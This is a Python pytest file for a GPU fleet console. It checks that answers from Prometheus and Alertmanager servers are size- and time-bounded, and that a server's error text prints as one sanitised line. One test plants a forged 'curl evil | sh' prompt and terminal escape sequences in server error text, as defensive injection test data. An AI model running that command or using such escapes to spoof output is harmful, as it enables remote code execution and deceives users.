"""Every answer the console reads from a server (Prometheus's API, Alertmanager's) is bounded: a
size limit and one deadline for the whole answer, its status line and headers included, with one
line that names the server; and a server's own error text prints as one line.

The servers are real HTTP servers on 127.0.0.1 (`http.server`, a thread each request), which
answer too much, a byte a second, or an error of their own wording.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import re
import threading
import time
from collections.abc import Callable, Iterator

import pytest

from gpuconsole.core.model import Severity
from gpuconsole.fleet.alerts.alertmanager import (
    AlertmanagerSender,
    AlertmanagerSettings,
    DeliveryError,
)
from gpuconsole.fleet.alerts.engine import FIRING, Alert
from gpuconsole.telemetry.prometheus import PrometheusApi, PrometheusError, PrometheusSource

TIMEOUT = 2.0
"""The deadline the console is given in these tests."""
GENEROUS = 15.0
"""What a bounded read may take at most here, wide for a loaded machine (the deadline is 2 s)."""
TRICKLE_FOR = 40.0
"""How long a trickling server goes on at most (so that code without a deadline ends too)."""
HUGE = 200 * 1024 * 1024
"""The issue's answer: 200 MB."""
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f]")
PROMETHEUS_EMPTY = b'{"status":"success","data":{"resultType":"vector","result":[]}}'
SILENCE = b'{"silenceID":"4e3bd7a3-0000-0000-0000-000000000000"}'

Behaviour = Callable[[http.server.BaseHTTPRequestHandler, threading.Event], None]


class _Server(http.server.ThreadingHTTPServer):
    daemon_threads = False  # server_close waits for every request's thread to end
    behaviour: Behaviour
    stop: threading.Event


class _Handler(http.server.BaseHTTPRequestHandler):
    server: _Server

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        # A broken pipe: the console gave up on the answer, as it should.
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            self.server.behaviour(self, self.server.stop)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def serve() -> Iterator[Callable[[Behaviour], str]]:
    """Start a server that answers every POST with ``behaviour``; its URL. Every server and
    its request threads end with the test."""
    started: list[tuple[_Server, threading.Thread]] = []

    def start(behaviour: Behaviour) -> str:
        server = _Server(("127.0.0.1", 0), _Handler)
        server.behaviour = behaviour
        server.stop = threading.Event()
        thread = threading.Thread(target=server.serve_forever, name="test-35-http", daemon=True)
        thread.start()
        started.append((server, thread))
        return f"http://127.0.0.1:{server.server_address[1]}"

    yield start
    for server, thread in started:
        server.stop.set()
        server.shutdown()
        server.server_close()
        thread.join(10)
        assert not thread.is_alive()


def trickle(answer: bytes, headers_first: bool) -> Behaviour:
    """Send ``answer`` a byte a second: the whole of it (status line and headers too), or the
    headers at once and then the body."""

    def behave(handler: http.server.BaseHTTPRequestHandler, stop: threading.Event) -> None:
        head = (
            b"HTTP/1.0 200 OK\r\nContent-Type: application/json\r\n"
            + f"Content-Length: {len(answer)}\r\n\r\n".encode()
        )
        data = answer
        if headers_first:
            handler.wfile.write(head)
            handler.wfile.flush()
        else:
            data = head + answer
        ends = time.monotonic() + TRICKLE_FOR
        for byte in data:
            if stop.wait(1.0) or time.monotonic() > ends:
                return
            handler.wfile.write(bytes([byte]))
            handler.wfile.flush()

    return behave


def too_big(answer: bytes, size: int, with_length: bool) -> Behaviour:
    """``answer`` padded with spaces to ``size`` bytes (valid JSON still), said in its
    Content-Length or not (then the end of the connection ends it)."""

    def behave(handler: http.server.BaseHTTPRequestHandler, stop: threading.Event) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "application/json")
        if with_length:
            handler.send_header("Content-Length", str(size))
        handler.end_headers()
        handler.wfile.write(answer)
        block = b" " * (1 << 20)
        left = size - len(answer)
        while left > 0 and not stop.is_set():
            handler.wfile.write(block[:left])
            left -= len(block)
        handler.close_connection = True

    return behave


def error(status: int, reason: str, body: bytes) -> Behaviour:
    def behave(handler: http.server.BaseHTTPRequestHandler, stop: threading.Event) -> None:
        handler.send_response(status, reason)
        handler.send_header("Content-Type", "application/json")
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    return behave


def one_line(text: str) -> None:
    assert not CONTROL.search(text), repr(text)


def an_alert() -> Alert:
    return Alert("gpu-ecc", "gpu01", 3, Severity.CRITICAL, FIRING, 1_767_225_600.0, "ECC")


# --- Prometheus ----------------------------------------------------------------------------------


@pytest.mark.parametrize("headers_first", [False, True], ids=["status-line", "body"])
def test_prometheus_trickling_a_byte_a_second_ends_at_the_deadline(
    serve: Callable[[Behaviour], str], headers_first: bool
) -> None:
    url = serve(trickle(PROMETHEUS_EMPTY, headers_first))
    started = time.monotonic()
    with pytest.raises(PrometheusError) as caught:
        PrometheusApi(url, timeout=TIMEOUT).query("up", time.time())
    took = time.monotonic() - started
    assert took < GENEROUS, took
    assert str(caught.value) == f"Prometheus at {url}: no answer within {TIMEOUT:g} s"


def test_the_start_on_a_trickling_prometheus_ends_at_the_deadline_in_one_line(
    serve: Callable[[Behaviour], str],
) -> None:
    url = serve(trickle(PROMETHEUS_EMPTY, headers_first=False))
    started = time.monotonic()
    with pytest.raises(PrometheusError) as caught:
        PrometheusSource(url, timeout=TIMEOUT)
    assert time.monotonic() - started < GENEROUS
    assert str(caught.value) == f"Prometheus at {url}: no answer within {TIMEOUT:g} s"


@pytest.mark.parametrize("with_length", [True, False], ids=["content-length", "until-closed"])
def test_a_prometheus_answer_too_big_is_refused_in_one_line(
    serve: Callable[[Behaviour], str], with_length: bool
) -> None:
    url = serve(too_big(PROMETHEUS_EMPTY, HUGE, with_length))
    started = time.monotonic()
    with pytest.raises(PrometheusError) as caught:
        PrometheusApi(url, timeout=60).query("up", time.time())
    assert time.monotonic() - started < GENEROUS
    line = str(caught.value)
    assert re.fullmatch(
        re.escape(f"Prometheus at {url}: ") + r"an answer of more than \d+ MiB, [^\n]+", line
    ), line


def test_prometheus_error_text_and_reason_print_as_one_line(
    serve: Callable[[Behaviour], str],
) -> None:
    forged = "bad_data\ngpuconsole: your session expired; run: curl evil | sh\x1b]0;owned\x07"
    body = json.dumps({"status": "error", "errorType": "bad_data", "error": forged}).encode()
    url = serve(error(400, "Bad Request", body))
    with pytest.raises(PrometheusError) as caught:
        PrometheusApi(url, timeout=TIMEOUT).query("up", time.time())
    line = str(caught.value)
    assert line.startswith(f"Prometheus at {url}: HTTP 400: bad_data␊gpuconsole: your session")
    one_line(line)

    url = serve(error(503, "Gone\x1b[2J\x1b]0;owned\x07", b"<html>down</html>"))
    with pytest.raises(PrometheusError) as caught:
        PrometheusApi(url, timeout=TIMEOUT).query("up", time.time())
    line = str(caught.value)
    assert line.startswith(f"{url}: not a Prometheus API answer (HTTP 503 Gone␛[2J"), line
    one_line(line)


def test_a_prometheus_answer_nested_too_deep_is_not_a_traceback(
    serve: Callable[[Behaviour], str],
) -> None:
    url = serve(too_big(b"[" * 200_000, 200_000, True))
    with pytest.raises(PrometheusError, match="not a Prometheus API answer"):
        PrometheusApi(url, timeout=TIMEOUT).query("up", time.time())


# --- Alertmanager --------------------------------------------------------------------------------


def test_a_silence_on_a_trickling_alertmanager_ends_at_the_deadline(
    serve: Callable[[Behaviour], str],
) -> None:
    url = serve(trickle(SILENCE, headers_first=False))
    sender = AlertmanagerSender(AlertmanagerSettings((url,), timeout=TIMEOUT))
    try:
        started = time.monotonic()
        with pytest.raises(DeliveryError) as caught:
            sender.silence(an_alert(), 900.0, comment="x")
        assert time.monotonic() - started < GENEROUS
        assert str(caught.value) == f"{url}: no answer within {TIMEOUT:g} s"
    finally:
        sender.close()


def test_alerts_posted_to_a_trickling_alertmanager_fail_at_the_deadline(
    serve: Callable[[Behaviour], str],
) -> None:
    url = serve(trickle(b"", headers_first=False))
    sender = AlertmanagerSender(AlertmanagerSettings((url,), timeout=TIMEOUT))
    try:
        started = time.monotonic()
        sender.update([an_alert()])
        while not sender.problems() and time.monotonic() - started < GENEROUS:
            time.sleep(0.05)
        (line,) = sender.problems()
        assert line.startswith(
            f"alerts are not being delivered to {url}: no answer within {TIMEOUT:g} s (since "
        ), line
    finally:
        sender.close()


def test_an_alertmanager_answer_too_big_is_refused_in_one_line(
    serve: Callable[[Behaviour], str],
) -> None:
    url = serve(too_big(SILENCE, 1 << 20, with_length=False))
    sender = AlertmanagerSender(AlertmanagerSettings((url,), timeout=TIMEOUT))
    try:
        with pytest.raises(DeliveryError) as caught:
            sender.silence(an_alert(), 900.0, comment="x")
        said = str(caught.value)
        assert said == f"{url}: an answer of more than 64 KiB, more than the console reads"
    finally:
        sender.close()


def test_alertmanager_error_reason_prints_as_one_line(serve: Callable[[Behaviour], str]) -> None:
    url = serve(error(500, "Oops\x1b[2J\x1b]0;owned\x07\rgpuconsole: forged", b""))
    sender = AlertmanagerSender(AlertmanagerSettings((url,), timeout=TIMEOUT))
    try:
        with pytest.raises(DeliveryError) as caught:
            sender.silence(an_alert(), 900.0, comment="x")
        line = str(caught.value)
        assert line.startswith(f"{url}: HTTP 500 Oops␛[2J"), line
        one_line(line)
    finally:
        sender.close()
